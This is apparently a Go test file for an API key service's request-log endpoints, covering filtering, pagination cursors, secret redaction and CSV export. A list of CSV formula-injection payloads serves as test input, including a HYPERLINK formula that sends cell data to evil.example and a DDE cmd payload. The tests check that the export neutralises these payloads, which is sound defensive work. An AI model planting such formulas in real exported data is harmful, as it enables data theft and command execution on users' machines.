package httpapi

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/keyreeve/keyreeve/pkg/usage"
)

// logged puts a row of a key's into the request log.
func (w *world) logged(c client, id string, ago time.Duration, edit func(*usage.Request)) {
	w.t.Helper()
	k, err := w.store.Key(w.t.Context(), c.key.ID())
	if err != nil {
		w.t.Fatal(err)
	}
	r := usage.Request{
		ID: id, RequestID: "req-" + id, Time: w.clock().Add(-ago), KeyID: k.ID, AccountID: k.AccountID, Environment: k.Environment,
		Generation: 1, Method: "GET", Route: "/v1/customers/{customerId}", Permission: "customers:read", Status: 200,
		Latency: 12 * time.Millisecond, SourceIP: "192.0.2.1", UserAgent: "curl/8.5",
	}
	if edit != nil {
		edit(&r)
	}
	var rows []usage.Row
	if r.Method != "" {
		rows = append(rows, usage.Row{Half: usage.AccessHalf, Request: r})
	}
	if r.Refused != "" {
		rows = append(rows, usage.Row{Half: usage.RefusalHalf, Request: r})
	}
	w.batches++
	if _, err := w.usage.Record(w.t.Context(), usage.Batch(fmt.Sprint(w.batches)), rows); err != nil {
		w.t.Fatal(err)
	}
}

// listed are the members of that name of an answer's rows.
func (a answer) listed(name string) string {
	a.t.Helper()
	rows, ok := a.want(200).object()["data"].([]any)
	if !ok {
		a.t.Fatalf("no list: %s", a.Body)
	}
	var out []string
	for _, r := range rows {
		out = append(out, fmt.Sprint(r.(map[string]any)[name]))
	}
	return strings.Join(out, " ")
}

func TestARequestsRowIsWholeAndNullWhereNothingIsKnown(t *testing.T) {
	w := newWorld(t, "{}")
	_, k := w.root.create(`{"name":"a","environment":"staging"}`)
	w.logged(k, "whole", time.Minute, func(r *usage.Request) { r.Status, r.Refused = 429, "rate_limited" })
	w.logged(k, "half", 2*time.Minute, func(r *usage.Request) {
		*r = usage.Request{ID: r.ID, RequestID: r.RequestID, Time: r.Time, KeyID: r.KeyID, AccountID: r.AccountID, Environment: r.Environment, Status: 401, Refused: "expired"}
	})
	want := `{"success":true,"meta":{},"data":[
		{"id":"whole","requestId":"req-whole","time":"2026-01-15T10:29:00.000Z","keyId":"K","keyName":"a","environment":"staging","generation":1,
		 "method":"GET","route":"/v1/customers/{customerId}","permission":"customers:read","status":429,"latencyMs":12,
		 "sourceIp":"192.0.2.1","userAgent":"curl/8.5","refused":"rate_limited"},
		{"id":"half","requestId":"req-half","time":"2026-01-15T10:28:00.000Z","keyId":"K","keyName":"a","environment":"staging","generation":null,
		 "method":null,"route":null,"permission":null,"status":401,"latencyMs":null,"sourceIp":null,"userAgent":null,"refused":"expired"}]}`
	golden(t, "of the key", w.root.do("GET", k.path("/requests"), ""), want, names{"K": k})
	golden(t, "of all", w.root.do("GET", "/v1/logs", ""), want, names{"K": k})
	sheet := w.root.do("GET", k.path("/requests?format=csv"), "").want(200)
	if got, want := sheet.Body.String(), strings.ReplaceAll(`"time","keyId","environment","generation","method","route","permission","status","latencyMs","sourceIp","userAgent","refused","requestId","id","keyName"`+"\r\n"+
		`"2026-01-15T10:29:00.000Z","K","staging",1,"GET","/v1/customers/{customerId}","customers:read",429,12,"192.0.2.1","curl/8.5","rate_limited","req-whole","whole","a"`+"\r\n"+
		`"2026-01-15T10:28:00.000Z","K","staging",,,,,401,,,,"expired","req-half","half","a"`+"\r\n", `"K"`, `"`+keyID(k.key.ID())+`"`); got != want {
		t.Errorf("sheet\n%s\nwant\n%s", got, want)
	}
}

func TestARowHasTheNameThatItsKeyHasNow(t *testing.T) {
	w := newWorld(t, "{}")
	_, k := w.root.create(`{"name":"before","permissions":["api_keys:read"]}`)
	_, s := k.session()
	_, gone := w.root.create(`{"name":"deleted"}`)
	w.logged(k, "1", time.Minute, nil)
	w.logged(s, "2", 2*time.Minute, nil)
	w.logged(gone, "3", 3*time.Minute, nil)
	w.logged(s, "5", 5*time.Minute, func(r *usage.Request) { r.KeyID, r.Parent = "00000001", k.key.ID() }) // that has been dropped
	w.logged(k, "4", 4*time.Minute, func(r *usage.Request) { r.KeyID = "00000000" })
	w.root.do("PATCH", k.path(""), `{"name":"now"}`).want(200)
	w.root.do("DELETE", gone.path(""), "").want(200)
	if got, want := w.root.do("GET", "/v1/logs", "").listed("keyName"), "now now (session) deleted <nil> now (session)"; got != want {
		t.Errorf("names %s, want %s", got, want)
	}
	if got := w.root.do("GET", k.path("/requests"), "").listed("keyName"); got != "now" {
		t.Errorf("of the key: names %s", got)
	}
}

func TestLogsAreOfTheKeysThatTheCallerSees(t *testing.T) {
	w := newWorld(t, "{}")
	_, staging := w.root.create(`{"name":"a","environment":"staging","permissions":["api_keys:*"]}`)
	stranger := w.stranger()
	w.logged(w.root, "p1", time.Minute, nil)
	w.logged(staging, "s1", 2*time.Minute, func(r *usage.Request) { r.Status = 404 })
	w.logged(stranger, "x1", 3*time.Minute, nil)
	w.logged(w.root, "p2", 4*time.Minute, func(r *usage.Request) {
		r.Status, r.Refused, r.Method, r.Route = 403, "missing_permission", "POST", "/v1/customers"
	})
	for _, c := range []struct {
		caller      client
		query, want string
	}{
		{w.root, "", "p1 s1 p2"},
		{staging, "", "s1"},
		{stranger, "", "x1"},
		{staging, "?environment=production", ""},
		{w.root, "?environment=staging", "s1"},
		{w.root, "?keyId=" + keyID(staging.key.ID()), "s1"},
		{w.root, "?status=404", "s1"},
		{w.root, "?status=4xx", "s1 p2"},
		{w.root, "?status=2xx&environment=production", "p1"},
		{w.root, "?refused=true", "p2"},
		{w.root, "?refused=false", "p1 s1 p2"},
		{w.root, "?method=POST", "p2"},
		{w.root, "?route=/v1/customers", "p2"},
		{w.root, "?from=2026-01-15T10:28:00Z&to=2026-01-15T10:29:00Z", "s1"},
	} {
		if got := c.caller.do("GET", "/v1/logs"+c.query, "").listed("id"); got != c.want {
			t.Errorf("%s: %q, want %q", c.query, got, c.want)
		}
	}
}

func TestPagesLeadToTheNextInEveryFormat(t *testing.T) {
	w := newWorld(t, "{}")
	var want []string
	for i := range 7 {
		id := fmt.Sprintf("r%d", i)
		w.logged(w.root, id, time.Duration(i)*time.Second, nil)
		want = append(want, id)
	}
	for _, start := range []string{"/v1/logs?limit=3&status=2xx", "/v1/logs?limit=3&format=csv&route=/v1/customers/%7BcustomerId%7D", w.root.path("/requests?limit=3")} {
		var got []string
		at, err := url.Parse(start)
		if err != nil {
			t.Fatal(err)
		}
		for pages := 1; at != nil; pages++ {
			if pages > 3 {
				t.Fatalf("%s: no last page", start)
			}
			a := w.root.do("GET", at.String(), "").want(200)
			if at.Query().Get("format") == "csv" {
				rows, err := csv.NewReader(strings.NewReader(a.Body.String())).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				for _, r := range rows[1:] {
					got = append(got, r[13])
				}
			} else {
				got = append(got, strings.Fields(a.listed("id"))...)
				next, _ := a.object()["meta"].(map[string]any)["next"].(string)
				if linked := following(t, at, a); (next != "") != (linked != nil) || linked != nil && linked.Query().Get("cursor") != next {
					t.Errorf("%s: meta.next and the Link header lead elsewhere", start)
				}
			}
			at = following(t, at, a)
		}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("%s (-want +got):\n%s", start, d)
		}
	}
}

// following is where an answer's Link header leads, as a client reads it.
func following(t *testing.T, at *url.URL, a answer) *url.URL {
	t.Helper()
	text := a.Header().Get("Link")
	if text == "" {
		return nil
	}
	target, ok := strings.CutSuffix(text, `>; rel="next"`)
	if !ok || target[0] != '<' {
		t.Fatalf("Link: %s", text)
	}
	next, err := at.Parse(target[1:])
	if err != nil {
		t.Fatal(err)
	}
	return next
}

func TestACursorOfAnotherListIsRefused(t *testing.T) {
	w := newWorld(t, "{}")
	_, staging := w.root.create(`{"name":"a","environment":"staging","permissions":["api_keys:*"]}`)
	for i := range 3 {
		w.logged(w.root, fmt.Sprint(i), time.Duration(i)*time.Second, nil)
	}
	cursor, _ := w.root.do("GET", "/v1/logs?limit=1", "").want(200).object()["meta"].(map[string]any)["next"].(string)
	if cursor == "" {
		t.Fatal("no next page")
	}
	w.root.do("GET", "/v1/logs?limit=2&cursor="+cursor, "").want(200)
	for what, a := range map[string]answer{
		"another filter":    w.root.do("GET", "/v1/logs?status=200&cursor="+cursor, ""),
		"one key's":         w.root.do("GET", w.root.path("/requests?cursor=")+cursor, ""),
		"who sees less":     staging.do("GET", "/v1/logs?cursor="+cursor, ""),
		"another account":   w.stranger().do("GET", "/v1/logs?cursor="+cursor, ""),
		"the list of keys":  w.root.do("GET", "/v1/api-keys?cursor="+cursor, ""),
		"the alerts":        w.root.do("GET", "/v1/alerts?cursor="+cursor, ""),
		"a changed one":     w.root.do("GET", "/v1/logs?cursor=B"+cursor[1:], ""),
		"a shortened one":   w.root.do("GET", "/v1/logs?cursor="+cursor[:len(cursor)-2], ""),
		"a key as a cursor": w.root.do("GET", "/v1/logs?cursor="+w.root.key.Plaintext(), ""),
	} {
		t.Run(what, func(*testing.T) { a.refused(400, "invalid_cursor") })
		noSecretIn(t, a.Body.String(), w.root.key)
	}
}

// A key that was put into a filter by mistake is neither in the answer nor in its headers.
func TestFiltersAreNotEchoed(t *testing.T) {
	w := newWorld(t, "{}")
	for i := range 3 {
		w.logged(w.root, fmt.Sprint(i), time.Duration(i)*time.Second, nil)
	}
	secret := w.root.key.Plaintext()
	for _, parameter := range []string{"route", "method", "keyId", "status", "from", "to", "granularity", "format", "cursor", "limit", "environment", "kind", secret} {
		for _, path := range []string{"/v1/logs", "/v1/usage", "/v1/alerts", w.root.path("/usage"), w.root.path("/requests"), w.root.path("/advice")} {
			a := w.root.do("GET", path+"?limit=1&"+parameter+"="+secret, "").want(400)
			noSecretIn(t, a.Body.String()+fmt.Sprint(a.Header()), w.root.key)
		}
	}
}

// Names and user agents that a spreadsheet would run.
var hostile = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(1)",
	" =1+1", "\u200b=1+1", "\ufeff@x", "a,=1+1", "a\";=1+1;\"", "a;=1+1", "'=1+1", `""=1`,
}

func TestASheetHoldsNoFormula(t *testing.T) {
	w := newWorld(t, "{}")
	created := map[string]string{} // name by key id
	for _, name := range hostile {
		body, err := json.Marshal(map[string]any{"name": name, "permissions": []string{}})
		if err != nil {
			t.Fatal(err)
		}
		_, k := w.root.create(string(body))
		created[keyID(k.key.ID())] = name
		w.logged(k, "id-"+string(k.key.ID()), time.Minute, func(r *usage.Request) { r.UserAgent = name })
	}
	opened := func(path string, column int, want map[string]string, of int) {
		t.Helper()
		body := w.root.do("GET", path, "").want(200).Body.String()
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: not RFC 4180: %v", path, err)
		}
		found := 0
		for _, row := range rows[1:] {
			for _, cell := range row {
				if isFormula(cell) {
					t.Errorf("%s: cell %q is run", path, cell)
				}
			}
			name, ok := want[row[of]]
			if !ok {
				continue
			}
			found++
			if cell := row[column]; cell != name && cell != "'"+name {
				t.Errorf("%s: cell %q of %q", path, cell, name)
			}
		}
		if found != len(want) {
			t.Errorf("%s: %d of %d rows", path, found, len(want))
		}
		// Whatever a spreadsheet takes for a separator.
		for _, separator := range []string{";", "\t", ","} {
			for _, start := range []string{"=", "+", "-", "@"} {
				if outside := unquoted(body); strings.Contains(outside, separator+start) || strings.HasPrefix(outside, start) {
					t.Errorf("%s: %q follows %q outside of quotes", path, start, separator)
				}
			}
		}
	}
	opened("/v1/usage?format=csv", 1, created, 0)
	opened("/v1/logs?format=csv", 10, created, 1)
}

// unquoted is what of a sheet is outside of quotes.
func unquoted(s string) string {
	var b strings.Builder
	for i, part := range strings.Split(s, `"`) {
		if i%2 == 0 {
			b.WriteString(part)
		}
	}
	return b.String()
}

func TestWhatASpreadsheetTakesForAFormula(t *testing.T) {
	for v, want := range map[string]bool{
		"": false, "a": false, "1": false, "a=1": false, "'=1": false, "(=1)": false, "é": false, "__": false, ".": false,
		"=": true, "+": true, "-": true, "@": true, "\ta": true, "\ra": true, "\na": true, "\x00a": true,
		"＝": true, "＋": true, "－": true, "＠": true,
		"  =": true, "\u00a0=": true, "\u200b=": true, "\ufeff=": true, "\x1b=": true, "   ": false, "\u200ba": false,
	} {
		if got := isFormula(v); got != want {
			t.Errorf("isFormula(%q) = %t, want %t", v, got, want)
		}
	}
	s := newSheet("a", "b")
	s.text(`say "=1"`)
	s.number(-5)
	s.end()
	if got, want := s.b.String(), "\"a\",\"b\"\r\n\"say \"\"=1\"\"\",-5\r\n"; got != want {
		t.Errorf("sheet %q, want %q", got, want)
	}
}
